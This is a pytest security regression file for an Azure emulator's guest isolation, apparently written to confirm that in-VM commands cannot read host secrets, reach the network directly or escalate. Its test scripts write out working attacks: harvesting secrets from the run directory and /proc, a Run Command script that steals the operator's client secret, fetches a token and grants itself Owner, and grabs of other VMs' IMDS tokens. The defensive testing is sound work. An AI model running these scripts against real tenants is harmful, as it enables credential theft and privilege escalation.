"""Guest isolation: a process "inside" an emulated VM (Run Command, in-VM steps) can read
nothing of the emulator's state, reach nothing but the proxy, and hold only its own VM's
credential (milab/cloud/guests.py, milab/cloud/guest_init.py).

Each attack below worked on an emulator whose guests ran as its own user on the host: a
principal with only Virtual Machine Contributor read the state file through Run Command,
took the operator's secret and made itself Owner. The last tests show the same checks fail
against an emulator started with ``--guest-isolation none``, and that the fallback is loud.
"""
from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from milab.guest import PythonStep, render_python
from milab.targets.emulator import Control, EmbeddedEmulator
from support import Arm, make_vm, operator_token, proxied_session, run

VM_CONTRIBUTOR = "9980e02c-c2be-4d73-94e8-173b1dc7cf3c"
OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
ARM_AUDIENCE = "https://management.azure.com/"


@pytest.fixture
def rg(arm, emu_env):
    """A resource group on the run's emulator, whose guests must be isolated."""
    if emu_env.get("MILAB_GUEST_ISOLATION") == "none":  # absent on emulators that predate isolation
        pytest.skip("this run's emulator runs guests without isolation (not root, or --guest-isolation none); "
                    "see its log and the reports")
    return arm.group()


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="guest namespaces need root")


def emulator_secrets(env: dict) -> dict[str, str]:
    """Every secret of the emulator a guest must not see, read from the host side."""
    run_dir = Path(env["MILAB_EMULATOR_DIR"])
    state = json.loads((run_dir / "state.json").read_text())
    out = {"operator secret": env["AZURE_CLIENT_SECRET"], "control key": env["MILAB_CONTROL_KEY"]}
    for name in ("signing-key.pem", "pki/leaf.key"):
        lines = (run_dir / name).read_text().splitlines()
        out[name] = lines[len(lines) // 2]  # a line of the private key's base64
    for secret, rid in state["vm_secrets"].items():
        out[f"credential of {rid.rsplit('/', 1)[-1]}"] = secret
    return out


def assert_no_secret(text: str, secrets: dict[str, str], own_vm: dict) -> None:
    for what, value in secrets.items():
        if what == f"credential of {own_vm['name']}":
            continue  # a guest holds its own VM's credential, in its proxy settings
        assert value not in text, f"the guest of {own_vm['name']} read the {what}"


def token_oids(text: str) -> set[str]:
    """The object ids of every JWT found in the text."""
    oids = set()
    for word in text.replace('"', " ").split():
        parts = word.split(".")
        if len(parts) == 3 and parts[0].startswith("eyJ"):
            try:
                claims = json.loads(base64.urlsafe_b64decode(parts[1] + "=" * (-len(parts[1]) % 4)))
            except ValueError:
                continue
            oids.add(claims.get("oid"))
    return oids


# What a guest tries, in Python so that Linux (bash) and Windows (the declared-step stand-in)
# guests run the same code: every file of the run directory (state, keys, env file, blob data)
# and every process's environment and command line.
READ_EVERYTHING = """
import os, sys
run_dir = sys.argv[1] if len(sys.argv) > 1 else RUN_DIR
seen = []
for top in (run_dir, "/proc"):
    for base, dirs, files in os.walk(top):
        if base.startswith("/proc/") and base.count("/") > 2:
            dirs[:] = []
        for name in files:
            path = os.path.join(base, name)
            if top == "/proc" and name not in ("environ", "cmdline"):
                continue
            try:
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            seen.append(path)
            sys.stdout.write(data.decode("utf-8", "replace").replace("\\0", " ") + "\\n")
print("read", len(seen), "files; own uid", os.getuid())
"""


@pytest.mark.parametrize("os_name", ["Linux", "Windows"])
def test_guest_reads_no_state_keys_or_other_vms_credentials(arm, control, emu_env, rg, os_name):
    me = make_vm(arm, rg, f"me{os_name[:3].lower()}", os_name=os_name)
    make_vm(arm, rg, "other")  # another VM whose credential must stay out of reach
    code = READ_EVERYTHING.replace("RUN_DIR", repr(emu_env["MILAB_EMULATOR_DIR"]))
    script = render_python(PythonStep(code, ()), os_name, prefer=sys.executable)
    status, out, err = run(control, me, script)
    assert "read " in out and "files; own uid" in out, (status, out[-2000:], err[-2000:])
    assert_no_secret(out + err, emulator_secrets(emu_env), me)
    assert "own uid 0" not in out


def test_vm_contributor_cannot_escalate_through_run_command(arm, control, emu_env, rg, http):
    """The reproduction from the issue: Run Command as a VM Contributor-only principal, the operator's
    secret from the state file, a token as the operator, Owner for oneself."""
    attacker_vm = make_vm(arm, rg, "attacker")
    victim_vm = make_vm(arm, rg, "victim")
    attacker = attacker_vm["identity"]["principalId"]
    sub = arm.sub
    r = arm.call("PUT", f"/subscriptions/{sub}/resourceGroups/{rg}/providers/Microsoft.Authorization/"
                        f"roleAssignments/{uuid.uuid4()}", "2022-04-01",
                 {"properties": {"roleDefinitionId": f"/subscriptions/{sub}/providers/Microsoft.Authorization/"
                                                     f"roleDefinitions/{VM_CONTRIBUTOR}",
                                 "principalId": attacker, "principalType": "ServicePrincipal"}})
    assert r.status_code == 201, r.text
    token = control.call("POST", "/_milab/tokens", json={"object_id": attacker, "audience": ARM_AUDIENCE})[
        "access_token"]
    run_dir = emu_env["MILAB_EMULATOR_DIR"]
    script = f"""
RUN={run_dir}
echo "ran-as:$(id -u)"
for f in "$RUN/state.json" "$RUN/signing-key.pem" "$RUN/env.json" "$RUN/pki/leaf.key"; do
  test -r "$f" && echo "readable:$f"
done
read_secret() {{ python3 -c "import json,sys; s=json.load(open(sys.argv[1])); p=[p for p in s['principals'].values() if p.get('secret')][0]; print(p['$1'])" "$RUN/state.json" 2>/dev/null; }}
SECRET=$(read_secret secret); APP=$(read_secret app_id)
TENANT=$(python3 -c "import json; print(json.load(open('$RUN/state.json'))['tenant_id'])" 2>/dev/null)
if [ -n "$SECRET" ]; then
  TOKEN=$(curl -sS "https://login.microsoftonline.com/$TENANT/oauth2/v2.0/token" -d grant_type=client_credentials \\
    -d "client_id=$APP" -d "client_secret=$SECRET" -d scope=https://management.azure.com/.default \\
    | python3 -c "import json,sys; print(json.load(sys.stdin)['access_token'])")
  curl -sS -o /dev/null -w "escalation:%{{http_code}}\\n" -X PUT -H "Authorization: Bearer $TOKEN" \\
    -H "Content-Type: application/json" \\
    "https://management.azure.com/subscriptions/{sub}/providers/Microsoft.Authorization/roleAssignments/{uuid.uuid4()}?api-version=2022-04-01" \\
    -d '{{"properties":{{"roleDefinitionId":"/subscriptions/{sub}/providers/Microsoft.Authorization/roleDefinitions/{OWNER}","principalId":"{attacker}","principalType":"ServicePrincipal"}}}}'
fi
echo done
"""
    r = arm.call("POST", f"{victim_vm['id']}/runCommand", "2024-07-01",
                 {"commandId": "RunShellScript", "script": script.splitlines()}, token=token)
    assert r.status_code == 202, r.text  # Virtual Machine Contributor may run commands
    poll = r.headers["Azure-AsyncOperation"]
    deadline = time.monotonic() + 60
    while True:
        op = http.get(poll, headers={"Authorization": f"Bearer {token}"}, timeout=30).json()
        if op["status"] != "InProgress" or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    message = op["properties"]["output"]["value"][0]["message"]
    assert "ran-as:" in message and "done" in message, message
    assert "readable:" not in message, message
    assert "escalation:" not in message, message
    r = arm.call("GET", f"/subscriptions/{sub}/providers/Microsoft.Authorization/roleAssignments", "2022-04-01")
    assert r.status_code == 200, r.text
    roles = {a["properties"]["roleDefinitionId"].rsplit("/", 1)[-1] for a in r.json()["value"]
             if a["properties"]["principalId"] == attacker}
    assert OWNER not in roles, roles


def test_guest_reaches_nothing_but_the_proxy(arm, control, rg):
    vm = make_vm(arm, rg, "net")
    host = socket.socket()
    host.bind(("127.0.0.1", 0))
    host.listen(8)
    abstract = socket.socket(socket.AF_UNIX)
    abstract_name = f"milab-test-{uuid.uuid4().hex}"
    abstract.bind("\0" + abstract_name)
    abstract.listen(8)
    try:
        # Direct connections are tried only once the guest has seen it has no route off loopback, so
        # an unisolated guest never sends anything off the machine (it fails the route check instead).
        script = f"""
routes=$(awk 'NR > 1' /proc/net/route | wc -l)
routes6=$(grep -vc ' lo$' /proc/net/ipv6_route)
echo "routes:$routes:$routes6"
if [ "$routes" = 0 ] && [ "$routes6" = 0 ]; then
  curl -sS --noproxy '*' -m 5 https://management.azure.com/ -o /dev/null -w "direct-arm:%{{http_code}}\\n"
  curl -sS --noproxy '*' -m 5 "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" -H Metadata:true -o /dev/null -w "direct-imds:%{{http_code}}\\n"
  python3 - <<'PY'
import socket
for addr in [("169.254.169.254", 80), ("203.0.113.7", 443), ("10.255.255.53", 53)]:
    s = socket.socket()
    s.settimeout(3)
    print("connect", addr, "->", s.connect_ex(addr))
PY
fi
python3 - <<'PY'
import socket
s = socket.socket(); s.settimeout(3)
print("host-loopback", s.connect_ex(("127.0.0.1", {host.getsockname()[1]})))
u = socket.socket(socket.AF_UNIX); u.settimeout(3)
print("abstract", u.connect_ex("\\0{abstract_name}"))
PY
curl -sS -o /dev/null -w "via-proxy:%{{http_code}}\\n" -H Metadata:true \\
  "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
"""
        status, out, err = run(control, vm, script)
    finally:
        host.close()
        abstract.close()
    assert "routes:0:0" in out, out + err  # loopback only
    assert "direct-arm:000" in out and "direct-imds:000" in out, out + err
    for line in out.splitlines():
        if line.startswith(("connect ", "host-loopback", "abstract")):
            assert not line.endswith(" 0"), f"the guest connected directly: {line}"
    assert out.count("connect (") == 3, out
    assert "via-proxy:200" in out, out + err  # the proxy (and through it IMDS) is reachable


def test_guest_gets_no_other_vms_tokens(arm, control, emu_env, rg):
    ua = arm.call("PUT", f"/subscriptions/{arm.sub}/resourceGroups/{rg}/providers/Microsoft.ManagedIdentity/"
                         f"userAssignedIdentities/theirs", "2018-11-30", {"location": "westus"}).json()
    mine = make_vm(arm, rg, "mine")
    theirs = make_vm(arm, rg, "theirs", {"type": "SystemAssigned, UserAssigned",
                                         "userAssignedIdentities": {ua["id"]: {}}})
    their_oids = {theirs["identity"]["principalId"], ua["properties"]["principalId"]}
    imds = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01" \
           "&resource=https://management.azure.com/"
    run_dir = emu_env["MILAB_EMULATOR_DIR"]
    port = emu_env["MILAB_EMULATOR_URL"].rsplit(":", 1)[-1]
    script = f"""
curl -sS -H Metadata:true "{imds}"; echo
for sel in "mi_res_id={ua['id']}" "msi_res_id={ua['id']}" "object_id={ua['properties']['principalId']}" \\
           "client_id={ua['properties']['clientId']}" "object_id={theirs['identity']['principalId']}"; do
  curl -sS -H Metadata:true "{imds}&$sel"; echo
done
# the other VM's proxy credential, looked up by its resource id in the state file
for secret in $(python3 -c "import json; s=json.load(open('{run_dir}/state.json')); print(' '.join(k for k, v in s['vm_secrets'].items() if v.lower() == '{theirs['id'].lower()}'))" 2>/dev/null); do
  curl -sS -x "http://vm:$secret@127.0.0.1:{port}" -H Metadata:true "{imds}"; echo
done
"""
    status, out, err = run(control, mine, script)
    oids = token_oids(out)
    assert mine["identity"]["principalId"] in oids, out + err  # its own token works
    assert not oids & their_oids, "the guest got a token of another VM's identity"


def test_guest_cannot_regain_privileges(arm, control, rg):
    vm = make_vm(arm, rg, "privs")
    # The mount probes run only once the guest sees it is unprivileged: run as root on the host
    # (no isolation) they would change the host; there the uid and capability checks fail first.
    status, out, err = run(control, vm, """
id -u
grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status
if [ "$(id -u)" != 0 ] && grep -q '^CapEff:[[:space:]]*0*$' /proc/self/status; then
  unshare -U true 2>/dev/null && echo "userns:created"
  umount /tmp 2>/dev/null && echo "umount:ok"
  mount -t tmpfs x /tmp 2>/dev/null && echo "mount:ok"
  touch /usr/milab-guest-probe 2>/dev/null && echo "usr:writable"
  touch /milab-guest-probe 2>/dev/null && echo "root:writable"
  echo x > "$HOME/f" && echo x > "${TMPDIR:-/tmp}/f" && echo "home-and-tmp:writable"
fi
""")
    lines = out.split()
    assert lines[0] not in ("0", ""), out
    status_lines = dict(line.split(":\t") for line in out.splitlines() if ":\t" in line)
    for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(status_lines[cap], 16) == 0, out
    assert status_lines["NoNewPrivs"] == "1" and status_lines["Seccomp"] == "2", out
    for forbidden in ("userns:created", "umount:ok", "mount:ok", "usr:writable", "root:writable"):
        assert forbidden not in out, out
    assert "home-and-tmp:writable" in out, out + err
    assert not Path("/usr/milab-guest-probe").exists()


def test_guest_starts_like_a_process_on_its_vm(arm, control, rg):
    """What scripts rely on: default signal dispositions, its own name, a home to work in."""
    vm = make_vm(arm, rg, "plain")
    status, out, err = run(control, vm, 'yes | head -1 >/dev/null; echo "pipe:${PIPESTATUS[0]}"; '
                                        'echo "host:$(hostname)"; echo "cwd:$PWD:$HOME"; echo "umask:$(umask)"')
    assert "pipe:141" in out, out + err  # yes ends on SIGPIPE, as in any shell
    assert "host:plain" in out and "umask:0022" in out, out
    cwd, home = out.split("cwd:", 1)[1].split()[0].split(":")
    assert cwd == home and home not in ("", "/root"), out


def test_timed_out_guest_leaves_no_process_behind(arm, control, rg):
    vm = make_vm(arm, rg, "slow")
    marker = f"{time.time() % 1000 + 1000:.3f}"
    status, out, err = run(control, vm, f"sleep {marker} & setsid sleep {marker} & sleep {marker}", timeout=2)
    assert status == -1 and "timed out" in err
    deadline = time.monotonic() + 5
    while True:
        left = subprocess.run(["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True).stdout.split()
        if not left or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert not left, f"processes of the guest survived its timeout: {left}"


def _launcher_disk_mounts(emu_env: dict) -> list[str]:
    """The hosts' disk mounts, as the guest launcher (in its own mount namespace) has them."""
    pids = subprocess.run(["pgrep", "-P", emu_env["MILAB_EMULATOR_PID"], "-f", "guest_init.py"],
                          capture_output=True, text=True).stdout.split()
    assert len(pids) == 1, pids
    disks = os.path.realpath(Path(emu_env["MILAB_EMULATOR_DIR"]) / "guest-disks")
    with open(f"/proc/{pids[0]}/mountinfo") as f:
        return [line.split()[4] for line in f if line.split()[4].startswith(disks + "/")]


def test_vm_keeps_its_disk_between_guest_runs_and_only_it(arm, control, emu_env, rg):
    """A file one in-VM command writes is there at the VM's next command (HOME and /tmp, as on a
    VM's disk), never in another VM's guest, and goes with the VM."""
    a, b = make_vm(arm, rg, "diska"), make_vm(arm, rg, "diskb")
    marker = uuid.uuid4().hex
    status, out, err = run(control, a, f'echo {marker} > "$HOME/note" && echo {marker} > /tmp/note && '
                                       f'mkdir -p /tmp/work/deep && echo {marker} > /tmp/work/deep/f && echo written')
    assert status == 0 and "written" in out, out + err
    read = f'cat "$HOME/note" /tmp/note /tmp/work/deep/f; stat -c "%a %u %n" "$HOME" /tmp; df -k "$HOME" /tmp'
    status, out, err = run(control, a, read)
    assert status == 0 and out.count(marker) == 3, out + err
    assert f"700 65534 {'/home/guest'}" in out and "1777 0 /tmp" in out, out
    sizes = [line.split()[1] for line in out.splitlines() if line.startswith("tmpfs")]
    assert sizes == ["524288", "524288"], out  # 512 MiB each, as a guest's fresh tmpfs were
    status, out, err = run(control, b, f'{read}; grep -rs {marker} /home /tmp /var/tmp /run /root '
                                       f'&& echo found')
    assert marker not in out and "found" not in out, out + err
    assert not any(f for _, _, files in os.walk(Path(emu_env["MILAB_EMULATOR_DIR"]) / "guest-disks")
                   for f in files), "a guest's files are on the host's disk"
    before = _launcher_disk_mounts(emu_env)
    r = arm.call("DELETE", a["id"], "2024-07-01")
    assert r.status_code in (200, 202, 204), r.text
    after = _launcher_disk_mounts(emu_env)
    assert len(before) - len(after) == 2, (before, after)  # A's HOME and /tmp are unmounted
    a2 = make_vm(arm, rg, "diska")  # the same name again: a new VM, with an empty disk
    status, out, err = run(control, a2, read)
    assert marker not in out and "No such file" in err, out + err


@needs_root
def test_guest_sees_exposed_paths_but_never_the_state_directory(tmp_path):
    """A state directory inside an exposed tree is covered: the tree shows, the state does not."""
    import asyncio

    from milab.cloud.server import Config, Emulator

    exposed = tmp_path / "checkout"
    (exposed / "tool").mkdir(parents=True)
    (exposed / "tool" / "readme.txt").write_text("visible")
    state = exposed / "state"

    async def scenario():
        emu = Emulator(Config(state_dir=state, guest_isolation="namespaces"))
        emu.guests.expose(exposed)
        await emu.start()
        try:
            return await emu.guests.run_guest(
                "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/v",
                ["bash", "-c", f"cat {exposed}/tool/readme.txt; echo; ls -a {state} 2>&1; "
                               f"cat {state}/state.json {state}/signing-key.pem 2>&1 | head -c 300; "
                               f"echo; cat {state}/pki/bundle.pem > /dev/null && echo bundle-readable"],
                credential=None, timeout=30)
        finally:
            await emu.stop()

    code, out, err = asyncio.run(scenario())
    secret = (state / "signing-key.pem").read_text().splitlines()[2]
    assert out.startswith("visible"), out + err
    assert secret not in out and "tenant_id" not in out, out
    assert "bundle-readable" not in out, out  # only the bundle the guest is given, at its own path


def test_without_isolation_a_guest_reads_the_state_file(tmp_path):
    """The checks above can fail: against --guest-isolation none, a guest reads the emulator's secrets."""
    emu = EmbeddedEmulator(extra_args=["--guest-isolation", "none"])
    try:
        env = emu.env
        assert env["MILAB_GUEST_ISOLATION"] == "none"
        assert "guest isolation: NONE" in emu.log.read_text()
        control = Control(env)
        http = proxied_session(env)
        arm = Arm(http, operator_token(http, env), env["AZURE_SUBSCRIPTION_ID"])
        rg = arm.group()
        vm = make_vm(arm, rg, "leaky")
        make_vm(arm, rg, "other")
        code = READ_EVERYTHING.replace("RUN_DIR", repr(env["MILAB_EMULATOR_DIR"]))
        status, out, err = run(control, vm, render_python(PythonStep(code, ()), "Linux", prefer=sys.executable))
        with pytest.raises(AssertionError, match="read the"):
            assert_no_secret(out + err, emulator_secrets(env), vm)
    finally:
        emu.stop()


@needs_root
def test_launcher_mounts_disks_only_below_its_own_directory(tmp_path):
    """An order naming a disk elsewhere (``/etc``, a sibling of the disks' directory) is a setup
    error, not a mount; the launcher serves the next guest as before."""
    import asyncio

    from milab.cloud.guests import GuestSetupError
    from milab.cloud.server import Config, Emulator

    async def scenario():
        emu = Emulator(Config(guest_isolation="namespaces"))
        await emu.start()
        env = {"PATH": "/usr/bin:/bin", "HOME": "/home/guest"}
        out = []
        try:
            for bad in ("/etc", str(emu.guests.disks_dir) + "-x/k", str(emu.guests.disks_dir / "a/b")):
                try:
                    out.append(await emu.guests._run_isolated("h", ["true"], env, 30, None, [], Path(bad)))
                except GuestSetupError as e:
                    out.append(str(e))
            out.append(await emu.guests.run_guest("/subscriptions/s/x/h", ["bash", "-c", "touch ~/f && echo ok"],
                                                  credential=None, timeout=30))
            return out
        finally:
            await emu.stop()

    *refused, fine = asyncio.run(scenario())
    for why in refused:
        assert isinstance(why, str) and "not a disk of this emulator" in why, why
    assert not Path("/etc/home").exists()
    assert fine[0] == 0 and fine[1] == "ok\n", fine


def test_without_isolation_a_vm_keeps_its_disk_in_home_and_tmpdir():
    """``--guest-isolation none``: the disk is a HOME and a TMPDIR of the VM's own (the guest
    starts in HOME); the next run of the VM finds its files, another VM does not, and a scale
    set's deletion takes its instances' disks."""
    import asyncio

    from milab.cloud.server import Config, Emulator

    base = "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/virtualMachineScaleSets/ss"
    a, b = f"{base}/virtualMachines/0", "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/" \
                                         "virtualMachines/B"
    write = 'echo kept > "$HOME/note" && echo kept > "$TMPDIR/note" && echo "$PWD $HOME $TMPDIR"'
    read = 'cat "$HOME/note" "$TMPDIR/note"'

    async def scenario():
        emu = Emulator(Config(guest_isolation="none"))
        await emu.start()
        try:
            runs = [await emu.guests.run_guest(a, ["bash", "-c", write], credential=None, timeout=30),
                    await emu.guests.run_guest(a.upper(), ["bash", "-c", read], credential=None, timeout=30),
                    await emu.guests.run_guest(b, ["bash", "-c", read], credential=None, timeout=30)]
            disk = emu.guests.disk(a)
            there = (disk / "home" / "note").is_file()
            emu.guests.drop_disks(base)  # the scale set is deleted
            return runs, disk, there, disk.exists(), emu.guests.disk(b).exists(), emu.run_dir
        finally:
            await emu.stop()

    (wrote, again, other), disk, there, left, b_left, run_dir = asyncio.run(scenario())
    assert wrote[0] == 0, wrote
    cwd, home, tmp = wrote[1].split()
    assert cwd == home and Path(home).parent == Path(tmp).parent == disk, wrote
    assert again[:2] == (0, "kept\nkept\n"), again  # resource ids are case-insensitive
    assert other[0] != 0 and "kept" not in other[1], other
    assert there and not left and b_left, "the scale set's deletion must take its instances' disks only"
    assert not (Path(run_dir) / "guest-disks").exists()  # gone when the emulator stops
    assert not Path(run_dir).exists()  # and the run directory it made for itself, with its keys


@pytest.mark.skipif(not shutil.which("unshare") or subprocess.run(
    ["unshare", "--user", "--map-root-user", "true"], capture_output=True).returncode != 0,
    reason="this machine cannot make user namespaces")
def test_fallback_is_loud_and_namespaces_mode_refuses(tmp_path):
    """Where namespaces cannot be made (here: a user namespace, in which uid 65534 does not exist),
    auto falls back to none and says so; --guest-isolation namespaces refuses to start."""
    base = ["unshare", "--user", "--map-root-user", sys.executable, "-m", "milab", "serve"]
    env_file = tmp_path / "a" / "env.json"
    auto = subprocess.run(base + ["--state-dir", str(tmp_path / "a"), "--detach"], capture_output=True, text=True,
                          timeout=120)
    try:
        assert auto.returncode == 0, auto.stderr
        env = json.loads(env_file.read_text())
        assert env["MILAB_GUEST_ISOLATION"] == "none"
        assert "WARNING guest isolation is none" in auto.stderr
        log = (tmp_path / "a" / "emulator.log").read_text()
        assert "guest isolation: NONE (namespaces unavailable" in log, log
        health = Control(env).call("GET", "/_milab/health")
        assert health["guest_isolation"] == "none"
    finally:
        if env_file.exists():
            subprocess.run([sys.executable, "-m", "milab", "stop", "--pid",
                            json.loads(env_file.read_text())["MILAB_EMULATOR_PID"]])
    strict = subprocess.run(base + ["--state-dir", str(tmp_path / "n"), "--guest-isolation", "namespaces"],
                            capture_output=True, text=True, timeout=120)
    assert strict.returncode == 2, strict.stdout + strict.stderr
    assert "guest namespaces are unavailable" in strict.stderr, strict.stderr


def test_reports_name_the_isolation(tmp_path):
    from milab.reporting.matrix import load_matrix_document, write_matrix

    md, js = write_matrix([], tmp_path, target="emulator", guest_isolation="none")
    assert "guest isolation: `none`" in md.read_text()
    assert load_matrix_document(js)["guest_isolation"] == "none"
    md, js = write_matrix([], tmp_path, target="emulator", guest_isolation="namespaces")
    assert "guest isolation: `namespaces`" in md.read_text()
